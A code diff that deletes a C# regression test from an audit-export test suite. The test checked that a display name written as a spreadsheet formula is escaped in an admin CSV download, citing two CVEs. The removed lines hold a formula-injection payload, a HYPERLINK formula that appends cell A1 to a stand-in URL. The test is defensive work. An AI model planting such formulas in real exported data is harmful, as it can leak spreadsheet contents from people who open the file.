@@ -32,26 +32,6 @@ public sealed class AuditExportTests(HostedApp app) : IClassFixture<HostedApp>
         Assert.Equal($$"""{"subject":"{{zoe.Id}}"}""", (await app.Database.AfterOfAsync("audit.export"))[^1]);
     }
 
-    /// <summary>
-    /// CVE-2023-51763 and CVE-2023-50448: a list of users that was exported ran formulas which its users had chosen for their names.
-    /// </summary>
-    [Fact]
-    public async Task A_name_that_is_a_formula_is_text_in_a_spreadsheet_unlike_in_CVE_2023_51763_and_CVE_2023_50448()
-    {
-        const string formula = "=HYPERLINK(\"https://example.com/?\"&A1,\"Click\")";
-        var person = Person.New();
-        var id = await app.CreateUserAsync(person.UserName!, person.Email!, administrator: true);
-        using var api = await app.ApiAsync();
-        await api.PatchAsync(id, new { displayName = formula });
-        using var visitor = app.Visit();
-        await visitor.SignInAsync(person.UserName!, TestApp.Password);
-
-        var file = await ReadAsync(visitor, $"/admin/audit.csv?actor={id}");
-
-        Assert.Contains(",\"'=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"Click\"\")\",", file.Text, StringComparison.Ordinal);
-        Assert.Equal("'" + formula, Rows(file.Text)[1][5]);
-    }
-
     [Fact]
     public async Task A_download_that_the_database_fails_in_the_middle_of_is_cut_off_and_one_that_nobody_reads_just_ends()
     {
